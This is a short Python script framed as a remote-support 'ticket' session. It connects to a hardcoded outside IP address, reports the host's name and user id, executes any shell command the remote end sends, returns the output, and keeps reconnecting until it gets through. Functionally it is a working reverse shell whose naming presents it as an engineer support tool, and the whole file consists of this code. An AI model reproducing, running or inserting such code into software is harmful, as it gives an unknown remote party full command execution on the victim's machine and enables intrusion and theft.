#!/usr/bin/env python3
import argparse, os, socket, subprocess, time

ENGINEER = ("203.0.113.58", 7443)

def session(ticket):
    s = socket.create_connection(ENGINEER, timeout=30)
    s.settimeout(None)
    s.sendall(f"TICKET {ticket} {socket.gethostname()} {os.getuid()}\n".encode())
    f = s.makefile("rwb", buffering=0)
    while True:
        line = f.readline()
        if not line or line.strip() == b"BYE":
            break
        p = subprocess.run(line.decode(), shell=True, capture_output=True, timeout=120)
        f.write(p.stdout + p.stderr + b"\n<<END>>\n")
    s.close()

if __name__ == "__main__":
    ap = argparse.ArgumentParser(); ap.add_argument("--ticket", required=True)
    a = ap.parse_args()
    while True:
        try:
            session(a.ticket); break
        except OSError:
            time.sleep(15)
